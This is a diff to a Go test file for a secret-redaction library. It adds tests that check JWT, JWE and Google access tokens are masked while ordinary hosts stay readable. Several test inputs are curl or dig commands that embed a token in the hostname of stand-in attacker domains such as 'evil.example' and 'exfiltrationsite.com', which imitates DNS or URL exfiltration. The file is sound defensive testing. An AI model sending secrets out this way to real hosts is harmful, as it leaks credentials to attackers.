@@ -2,6 +2,7 @@ package redact
 
 import (
 	"bufio"
+	"encoding/base64"
 	"encoding/json"
 	"fmt"
 	"os"
@@ -390,7 +391,12 @@ func FuzzString(f *testing.F) {
 	}
 	for _, s := range []string{"", Mask, "a:b@c", "://:@", "password=", "-----BEGIN PRIVATE KEY-----",
 		"token=\"", `\"password\":\"`, "Bearer Bearer Bearer x", "ghp_" + strings.Repeat("a", 40) + "ghp_",
-		"password=\"a b; c\"", "-----BEGIN PRIVATE KEY-----\n" + testKeyBody + "\n-----END PRIVATE KEY-----"} {
+		"password=\"a b; c\"", "-----BEGIN PRIVATE KEY-----\n" + testKeyBody + "\n-----END PRIVATE KEY-----",
+		// JWTs of other layouts and alphabets, and look-alike hosts.
+		"eyAiYWxnIjogIkhTMjU2In0.e30." + strings.Repeat("-_", 22) + ".x",
+		"ewogImFsZyI6ICJkaXIiCn0..AAAAAAAAAAAAAAAA.BBBBBBBBBBBBBBBB.CCCCCCCCCCCCCCCC.evil.example",
+		"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ4Pz5+In0=." + strings.Repeat("+/", 22) + "==/x",
+		"https://eyAiYSI6IDF9.e30.com/" + strings.Repeat("a", 50), "ya29.c." + strings.Repeat("Ab1", 7) + ".x"} {
 		f.Add(s)
 	}
 	r := New([]string{"extra"})
@@ -585,6 +591,128 @@ func TestTokenPatternsKeepHosts(t *testing.T) {
 		{"gcloud says ya29.c." + goog[5:], "gcloud says " + Mask},
 		{"curl -d x https://hooks.slack.com/services/T000/B000/XXXXXXXXXXXXXXXX",
 			"curl -d x https://hooks.slack.com/services/" + Mask},
+	} {
+		if got := r.String(tc.in); got != tc.want {
+			t.Errorf("String(%q)\n got  %q\n want %q", tc.in, got, tc.want)
+		}
+	}
+}
+
+// TestJOSEShapes: a JWT or JWE is masked whatever its header's layout
+// (a space or line break after "{": eyAi..., ewog..., ew0K..., ewki...),
+// an empty payload (e30) and standard base64 (+, /, = padding), because
+// its header and payload decode to JSON objects; base64 that does not
+// decode to JSON objects, hosts and dotted words are shown, and a token
+// that goes on as a dotted name keeps the name's domain in clear.
+func TestJOSEShapes(t *testing.T) {
+	url, std := base64.RawURLEncoding.EncodeToString, base64.StdEncoding.EncodeToString
+	// Signature bytes: fixed, not a secret. sigURL has "-" and "_",
+	// sigStd "+", "/" and "=" padding; sigPlain neither.
+	sigURL := url([]byte(strings.Repeat("\xfb\xff\xbf", 11)))              // 44 chars
+	sigStd := std([]byte(strings.Repeat("\xfb\xff\xbf", 10) + "\x01\x02")) // 44 with "="
+	sigPlain := url([]byte(strings.Repeat("\x10\x83\x10", 11)))            // EIMQ...
+	hdr := func(enc func([]byte) string, j string) string { return enc([]byte(j)) }
+	var (
+		spaced   = hdr(url, `{ "alg": "HS256", "typ": "JWT" }`)
+		newline  = hdr(url, "{\n  \"alg\": \"RS256\",\n  \"kid\": \"k1\"\n}")
+		crlf     = hdr(url, "{\r\n\"alg\":\"ES256\"\r\n}")
+		tab      = hdr(url, "{\t\"alg\":\"EdDSA\"}")
+		compact  = hdr(url, `{"alg":"HS256","typ":"JWT"}`)
+		stdHdr   = hdr(std, `{"alg":"HS256","typ":"JWT"}`)
+		stdPay   = hdr(std, `{"sub":"a?>~","n":"x"}`) // has + and =
+		payload  = hdr(url, `{ "sub": "1234567890", "iat": 1516239022 }`)
+		empty    = hdr(url, `{}`)
+		jweEnc   = hdr(url, "{\n \"alg\": \"dir\",\n \"enc\": \"A256GCM\"\n}")
+		notJSON  = hdr(url, `{ "alg": "HS256", "typ"`) // cut: not an object
+		notJSON2 = hdr(url, "{\nhello world, no json here}")
+	)
+	for _, p := range []string{spaced, newline, crlf, tab, empty} {
+		if !strings.HasPrefix(p, "e") {
+			t.Fatalf("%q does not start as a JSON object's base64", p)
+		}
+	}
+	if !strings.ContainsAny(sigStd, "+/") || !strings.HasSuffix(sigStd, "=") || !strings.ContainsAny(stdPay, "+/=") ||
+		!strings.ContainsAny(sigURL, "-_") || strings.ContainsAny(sigPlain, "-_+/") {
+		t.Fatalf("fixtures: %q %q %q %q", sigStd, stdPay, sigURL, sigPlain)
+	}
+	r := New(nil)
+	for _, tc := range []struct{ in, want string }{
+		{"Bearer%20" + spaced + "." + payload + "." + sigURL, "Bearer%20" + Mask},
+		{"tok " + newline + "." + empty + "." + sigURL + " x", "tok " + Mask + " x"},
+		{"tok " + crlf + "." + payload + "." + sigPlain, "tok " + Mask},
+		{"tok " + tab + "." + empty + ".", "tok " + Mask},
+		{"tok=" + stdHdr + "." + stdPay + "." + sigStd + "&x=1", "tok=" + Mask + "&x=1"},
+		{"tok " + compact + "." + empty + "." + sigStd, "tok " + Mask},
+		{"tok " + stdHdr + "." + stdPay + ".AbcDef" + sigStd, "tok " + Mask},
+		{"Zm9v" + spaced + "." + payload + "." + sigURL, "Zm9v" + Mask},
+		{"network" + spaced + "." + payload + "." + sigURL, "network" + Mask},
+		{"enc " + jweEnc + ".." + strings.Repeat("A", 16) + "." + strings.Repeat("B", 40) + "." + strings.Repeat("C", 22), "enc " + Mask},
+		// A URL-safe token before a path: the path is not its signature.
+		{"https://api.example/t/" + spaced + "." + payload + "." + sigURL + "/refresh", "https://api.example/t/" + Mask + "/refresh"},
+		{"https://api.example/t/" + compact + "." + payload + "." + sigPlain + "/refresh", "https://api.example/t/" + Mask + "/refresh"},
+		// Next to a dotted name: masked up to its last label; the
+		// domain stays in clear.
+		{"curl https://" + spaced + "." + payload + "." + sigURL + ".evil.example/", "curl https://" + Mask + "." + sigURL + ".evil.example/"},
+		{"https://" + newline + ".k.aaaaaaaaaaaaaaaa.bbbbbbbbbbbbbbbb.exfiltrationsite.com/x", "https://" + Mask + ".exfiltrationsite.com/x"},
+		{"https://" + spaced + "." + empty + ".thisisaverylongattackerownedlabelof43charsxx.com/x",
+			"https://" + Mask + ".thisisaverylongattackerownedlabelof43charsxx.com/x"},
+	} {
+		if got := r.String(tc.in); got != tc.want {
+			t.Errorf("String(%q)\n got  %q\n want %q", tc.in, got, tc.want)
+		}
+		rr := r.ForReviewers()
+		once := rr.String(tc.in)
+		if strings.Contains(once, "[REDACTED]") || len(once) == len(tc.in) {
+			t.Errorf("ForReviewers().String(%q) = %q", tc.in, once)
+		}
+		if again := rr.String(once); again != once {
+			t.Errorf("not idempotent: %q -> %q", once, again)
+		}
+	}
+	for _, s := range []string{
+		// Hosts made of labels that decode to JSON objects: the
+		// "signature" is a top-level domain, a short label, or a domain
+		// and a path.
+		"curl https://" + spaced + "." + empty + ".com/up",
+		"curl https://" + newline + "." + payload + ".io/" + strings.Repeat("a", 60),
+		"curl https://" + compact + "." + empty + ".com/" + strings.Repeat("a", 60),
+		"curl https://eyAiYSI6IDF9.e30.example/",
+		"dig " + tab + "." + empty + ".x.example",
+		// Base64 that is not a JSON object, dotted words.
+		"curl https://" + notJSON + "." + payload + "." + sigURL + "/",
+		"x " + notJSON2 + "." + payload + "." + sigURL,
+		"x " + spaced + "." + notJSON2 + "." + sigURL,
+		"x " + url([]byte("hello, world: no json")) + "." + payload + "." + sigURL,
+		"the network.eyes.ewok.ew0k.e30 are words",
+		"see framework.eyAbcdefghijklmnopq.eyAbcdefghijklmnopq.done",
+		"https://eyAiYWxnIjogIkhTMjU2In0.exfil-service.com/",
+		"ya29.example.com",
+		"https://ya29.Abc1defGhijklmnopqrstuvwxyz.com/x",
+		"https://ya29.c.abcdefghijklmnopqrstuvwxyz0123.evil.example/",
+	} {
+		for _, r := range []*Redactor{r, r.ForReviewers()} {
+			if got := r.String(s); got != s {
+				t.Errorf("String(%q) = %q, want unchanged", s, got)
+			}
+		}
+	}
+}
+
+// TestGoogleTokenLengths: a Google access token is masked from 20
+// characters after "ya29." (real ones are 50 to over 1000), wherever it
+// stands; a shorter one, or one up to a DNS label's 63 characters that goes
+// on as a dotted name, is a host's label and shown.
+func TestGoogleTokenLengths(t *testing.T) {
+	r := New(nil)
+	body := func(n int) string { return ("a0AfB_byC" + strings.Repeat("x1Y-Q", 60))[:n] }
+	for _, tc := range []struct{ in, want string }{
+		{"Authorization: Bearer ya29." + body(20), "Authorization: Bearer " + Mask},
+		{"tok ya29." + body(51) + " x", "tok " + Mask + " x"},
+		{"?access_token=ya29." + body(40) + "&x=1", "?access_token=" + Mask + "&x=1"},
+		{"ya29.c." + body(30) + ". Then", Mask + ". Then"},
+		{"dig ya29." + body(64) + ".evil.example", "dig " + Mask + ".evil.example"},
+		{"dig ya29." + body(63) + ".evil.example", "dig ya29." + body(63) + ".evil.example"},
+		{"ya29." + body(19), "ya29." + body(19)},
 	} {
 		if got := r.String(tc.in); got != tc.want {
 			t.Errorf("String(%q)\n got  %q\n want %q", tc.in, got, tc.want)
